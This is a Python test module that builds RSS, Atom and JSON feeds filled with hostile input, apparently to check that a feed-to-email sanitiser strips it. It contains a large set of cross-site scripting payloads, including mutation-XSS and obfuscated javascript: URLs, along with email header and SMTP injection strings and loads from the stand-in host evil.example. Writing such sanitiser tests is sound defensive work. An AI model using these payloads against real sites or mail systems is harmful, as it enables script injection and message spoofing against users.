"""What strangers write into feeds to make it act in a mail, and feeds of each format that hold it."""

import json
from xml.sax.saxutils import escape

from hypothesis import strategies as st

MARK = "zqx"
"""Stands in every script of the strangers: it must never stand where a browser would run it."""
EVIL = "https://evil.example/"

# Single pieces, to be put together in any order, and whole samples of known tricks.
PIECES = [
    f"<script>{MARK}()</script>",
    f"<script src='https://evil.example/{MARK}.js'></script>",
    f"<img src=x onerror={MARK}()>",
    f"<img src=`x`onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f"<svg><style><img src=x onerror={MARK}()></style></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={MARK}()&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={MARK}()>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={MARK}()>",
    f'<a href="javascript:{MARK}()">x</a>',
    f'<a href="java\tscript:{MARK}()">x</a>',
    f'<a href="&#x6A;avascript&colon;{MARK}()">x</a>',
    f"<a href='data:text/html;base64,{MARK}'>x</a>",
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"<iframe src='javascript:{MARK}()'></iframe>",
    f"<object data='data:text/html,{MARK}'></object>",
    f"<embed src='javascript:{MARK}()'>",
    f"<form action='https://evil.example/{MARK}'><input autofocus onfocus={MARK}()><button>x</button></form>",
    f"<style>@import 'https://evil.example/{MARK}.css';</style>",
    f"<link rel=stylesheet href='https://evil.example/{MARK}.css'>",
    f"<base href='https://evil.example/{MARK}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'>",
    f'<p style="background:url(\'javascript:{MARK}()\')" onclick="{MARK}()">x</p>',
    f"<video src=x onerror={MARK}()><source onerror={MARK}()></video>",
    f"<details open ontoggle={MARK}()>x</details>",
    f"<xmp><img src=x onerror={MARK}()></xmp>",
    f"<!--><script>{MARK}()</script>-->",
    f"<![CDATA[<script>{MARK}()</script>",
    f"]]><script>{MARK}()</script>",
    f'"><script>{MARK}()</script>',
    f"' onmouseover='{MARK}()",
    f'" style="x:expression({MARK}())',
    f"javascript:{MARK}()",
    f"</title></style></textarea><script>{MARK}()</script>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{MARK}()&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{MARK}()&#60;/script&#62;",
    f"{{{{ cycler.__init__ }}}}{{% raw %}}{MARK}",
    f"https://slot.invalid/{'f' * 16}/unsubscribe_url/{MARK}",
    f"\r\nBcc: {MARK}@evil.example\r\n\r\n",
    *(
        "<p>",
        "</p>",
        "<table>",
        "<b>",
        "</b>",
        "<noscript>",
        "<template>",
        "<select>",
        "<plaintext>",
        "<!--",
        "-->",
    ),
    *(
        "\x00",
        "\x0b",
        "\x1b[31m",
        "\x7f",
        "\x85",
        "\u2028",
        "\u202e",
        "\u2066",
        "\ufeff",
        "\ufffe",
        "\U000e0041",
    ),
    *(
        "&",
        "<",
        ">",
        '"',
        "'",
        "`",
        "=",
        "/",
        "\\",
        " ",
        "\n",
        "é",
        "🎉",
        "words of a plain text",
        "&#0;",
        "&#xD800;",
    ),
]
# Addresses that act, by other names.
ACTING = (
    f"javascript:{MARK}()",
    f"JaVaScRiPt:{MARK}()",
    f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{MARK}()",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{MARK}()",
    f"java&Tab;script&colon;{MARK}()",
    f"&#1;&#x20;\x01 javascript:{MARK}()",
    f"java\u200bscript:{MARK}()",
    f"\u202ejavascript:{MARK}()",
    f"ｊａｖａｓｃｒｉｐｔ：{MARK}()",
    f"javascript://ledger.example/%0a{MARK}()",
    f"vbscript:{MARK}()",
    f"livescript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"data:image/svg+xml;utf8,<svg onload={MARK}()>",
    f"blob:https://ledger.example/{MARK}",
    f"filesystem:https://ledger.example/{MARK}",
    f"view-source:javascript:{MARK}()",
    f"jar:https://evil.example/{MARK}!/",
    f"feed:javascript:{MARK}()",
    f"file:///etc/passwd?{MARK}",
    f"ftp://ledger.example/{MARK}",
    f"//javascript:{MARK}()@evil.example/",
    f"https://ledger.example/javascript:{MARK}()",
    f"https:javascript:{MARK}()",
    f"https://x.example/' onerror='{MARK}()",
    f"https://x.example/&quot; onerror=&quot;{MARK}()",
    f"mailto:x@evil.example?subject=%0d%0aBcc:{MARK}@evil.example",
)

# What is known to slip past a sanitiser, or through one when its output is read again.
TRICKS = (
    # Names that change their meaning between HTML, SVG and MathML ("mutation").
    f"<svg></p><style><a id='</style><img src=1 onerror={MARK}()>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={MARK}()&gt;'>",
    f"<math><annotation-xml encoding='text/html'><script>{MARK}()</script></annotation-xml></math>",
    f"<svg><foreignObject><iframe srcdoc='<script>{MARK}()</script>'></iframe></foreignObject></svg>",
    f"<svg><desc><title></desc><img src=1 onerror={MARK}()></title></svg>",
    f"<svg><animate attributeName=href values=javascript:{MARK}() /><a><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={MARK}()></svg>#x'></svg>",
    f"<svg><set attributeName=onmouseover to={MARK}()></svg>",
    (
        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
        f"<img onerror={MARK}() src>'>"
    ),
    f"<table><td><noembed><style></noembed><img src=1 onerror={MARK}()>",
    (
        f"<select><template><style><!--</style><a rel='--></style></template></select>"
        f"<img src=1 onerror={MARK}()>'>"
    ),
    f"<template><template><script>{MARK}()</script></template><img src=1 onerror={MARK}()></template>",
    f"<template shadowrootmode=open><script>{MARK}()</script></template>",
    f"<noscript><style></noscript><img src=1 onerror={MARK}()></style>",
    f"<textarea><img src='</textarea><img src=1 onerror={MARK}()>'></textarea>",
    f"<title><a href='</title><img src=1 onerror={MARK}()>'></title>",
    f"<xmp><p id='</xmp><img src=1 onerror={MARK}()>'></xmp><listing>&lt;img onerror={MARK}()&gt;</listing>",
    f"<plaintext><script>{MARK}()</script>",
    (
        f"<!--><img src=1 onerror={MARK}()>--><!-- --!><img src=1 onerror={MARK}()> -->"
        f"<?x <img onerror={MARK}()>?>"
    ),
    f"<![CDATA[><img src=1 onerror={MARK}()>]]><!foo><img src=1 onerror={MARK}()>>",
    f"<![if !mso]><script>{MARK}()</script><![endif]><!--[if mso]><script>{MARK}()</script><![endif]-->",
    # Addresses that act.
    *(
        f'<a href="{href}">x</a><img src="{href}" data-src="{href}" srcset="{href} 1200w">'
        f'<iframe src="{href}">'
        for href in ACTING
    ),
    f"<a href='ja\nva\tscript:{MARK}()' xlink:href='javascript:{MARK}()' ping='{EVIL}'>x</a>",
    (
        f"<math href='javascript:{MARK}()'>x</math><area href='javascript:{MARK}()'>"
        f"<isindex action=javascript:{MARK}()>"
    ),
    f"<img srcset=', javascript:{MARK}() 2x, data:text/html,{MARK} 1x, //x/a.jpg\" onerror={MARK}() 1200w'>",
    f"<img lowsrc='javascript:{MARK}()' dynsrc='javascript:{MARK}()' src='x' longdesc='javascript:{MARK}()'>",
    f"<base href='javascript:/**/'><base target='{MARK}'><a href='/{MARK}()//'>x</a>",
    (
        f"<meta http-equiv=refresh content='0;url=data:text/html,{MARK}'>"
        f"<meta charset=utf-7>+ADw-script+AD4-{MARK}()"
    ),
    # Styles, forms and frames.
    f"<p style=\"background:url('{EVIL}{MARK}.png');behavior:url({EVIL}x.htc);-moz-binding:url(x)\">x</p>",
    f"<style>@import url({EVIL}{MARK}.css);p{{background:url(javascript:{MARK}())}}</style><p>x</p>",
    f"<div style='width:expression({MARK}())' background='{EVIL}{MARK}.gif'>x</div>",
    (
        f"<link rel=stylesheet href='{EVIL}{MARK}.css'><link rel=import href='{EVIL}{MARK}'>"
        f"<font color=x>y</font>"
    ),
    (
        f"<form action='{EVIL}{MARK}'><input type=image src=x formaction=javascript:{MARK}()></form>"
        f"<input form=x>"
    ),
    (
        f"<button formaction='javascript:{MARK}()' popovertarget=x>x</button><dialog open>x</dialog>"
        f"<keygen autofocus>"
    ),
    (
        f"<frameset onload={MARK}()><frame src='javascript:{MARK}()'></frameset>"
        f"<iframe srcdoc='&lt;script&gt;{MARK}()'>"
    ),
    (
        f"<portal src='{EVIL}{MARK}'></portal><object data='javascript:{MARK}()'>"
        f"<param name=url value=javascript:x>"
    ),
    (
        f"<embed src='javascript:{MARK}()'><applet code='{MARK}'><bgsound src='javascript:{MARK}()'>"
        f"<layer src='{EVIL}'>"
    ),
    (
        f"<video poster='javascript:{MARK}()' onerror={MARK}()><source src=1 onerror={MARK}()>"
        f"<track onerror={MARK}()>"
    ),
    f"<marquee onstart={MARK}()>x</marquee><details open ontoggle={MARK}()>x</details><body onload={MARK}()>",
    (
        f"<p hidden onbeforematch={MARK}()>x</p><p popover onbeforetoggle={MARK}()>x</p>"
        f"<x tabindex=1 onfocus={MARK}()>"
    ),
    (
        f"<script src='{EVIL}{MARK}.js'></script><script/x>{MARK}()</script\t\n bar>"
        f"<scr<script>ipt>{MARK}()</scr</script>"
    ),
    f"<IMG SRC=1 oNeRrOr={MARK}()>\x00<im\x00g src=1 oner\x00ror={MARK}()><img/src=1/onerror={MARK}()>",
    f"＜script＞{MARK}()＜/script＞<ſcript>{MARK}()</ſcript><İframe src=javascript:{MARK}()>",
    f"&lt;img src=1 onerror={MARK}()&gt;&amp;lt;img onerror={MARK}()&amp;gt;&amp;amp;lt;script&amp;gt;",
    f"\u2028<script>{MARK}()</script>\u2029\u202e\u2066\ufeff\u0000\ud7ff",
    # Ways out of where a field stands: an attribute, a title, a comment, a style, a template, a header.
    f"\"><img src=1 onerror={MARK}()>'><img src=1 onerror={MARK}()>`><img src=1 onerror={MARK}()>",
    f"\" onmouseover={MARK}() x=\"' onmouseover={MARK}() x='` onmouseover={MARK}() x=`",
    f"</title></style></textarea></script></template></table></a></td><script>{MARK}()</script>",
    f"--><script>{MARK}()</script><!--<![endif]--><script>{MARK}()</script>",
    f"{{{{ 7*7 }}}}{{% include '{MARK}' %}}{{# {MARK} #}}${{{MARK}}}<%= {MARK} %>",
    f"%(email)s %s {{0}} {{reader.email}} https://slot.invalid/{'f' * 16}/unsubscribe_url/{MARK}",
    f"a\r\nBcc: {MARK}@evil.example\r\nContent-Type: text/html\r\n\r\n<script>{MARK}()</script>",
    f"=?utf-8?q?=0D=0ABcc:_{MARK}@evil.example?= =?utf-8?b?DQpCY2M6IHh4?=",
    f".\r\n.\r\nMAIL FROM:<{MARK}@evil.example>\r\n--=_{'f' * 16}--\r\n",
)
FRAGMENTS = st.lists(st.sampled_from([*PIECES, *TRICKS]), min_size=1, max_size=6).map("".join)
ADDRESSES = st.one_of(
    st.sampled_from(ACTING),
    FRAGMENTS,
    FRAGMENTS.map(lambda text: f"https://ledger.example/{text}"),
    FRAGMENTS.map(lambda text: f"//{text}@ledger.example:x/"),
)
STORY = {
    "feed": FRAGMENTS,
    "title": FRAGMENTS,
    "author": FRAGMENTS,
    "category": FRAGMENTS,
    "description": FRAGMENTS,
    "body": FRAGMENTS,
    "link": ADDRESSES,
    "guid": FRAGMENTS,
    "picture": ADDRESSES,
    "alt": FRAGMENTS,
}
STORIES = st.fixed_dictionaries(STORY)

NAMESPACES = (
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    ' xmlns:media="http://search.yahoo.com/mrss/"'
)


def rss(*stories: dict[str, str], raw: bool) -> bytes:
    """As a careful feed writes it, or with everything as it comes, which is mostly broken XML."""
    items, title = "", ""
    for story in stories:
        said = story if raw else {name: escape(text, {'"': "&quot;"}) for name, text in story.items()}
        title = title or said["feed"]
        alt = f"<media:description>{said['alt']}</media:description>"
        items += (
            f"<item><title>{said['title']}</title><link>{said['link']}</link><guid>{said['guid']}</guid>"
            f"<dc:creator>{said['author']}</dc:creator><category>{said['category']}</category>"
            f"<description>{said['description']}</description>"
            f"<content:encoded>{said['body']}<p>{said['body']}</p></content:encoded>"
            f'<media:content medium="image" url="{said["picture"]}">{alt}</media:content></item>'
        )
    channel = f"<channel><title>{title}</title>{items}</channel>"
    return f"<rss version='2.0' {NAMESPACES}>{channel}</rss>".encode()


def atom(story: dict[str, str]) -> bytes:
    said = {name: escape(text, {'"': "&quot;"}) for name, text in story.items()}
    entry = (
        f"<title type='html'>{said['title']}</title><id>{said['guid']}</id><link href=\"{said['link']}\"/>"
        f'<author><name>{said["author"]}</name></author><category term="{said["category"]}"/>'
        f"<summary type='html'>{said['description']}</summary><content type='html'>{said['body']}</content>"
    )
    feed = f"<title type='html'>{said['feed']}</title><entry>{entry}</entry>"
    return f"<feed xmlns='http://www.w3.org/2005/Atom'>{feed}</feed>".encode()


def json_feed(story: dict[str, str]) -> bytes:
    item = {
        "id": story["guid"],
        "url": story["link"],
        "title": story["title"],
        "authors": [{"name": story["author"]}],
        "tags": [story["category"]],
        "summary": story["description"],
        "content_html": story["body"],
        "image": story["picture"],
    }
    version = "https://jsonfeed.org/version/1.1"
    return json.dumps({"version": version, "title": story["feed"], "items": [item]}).encode()
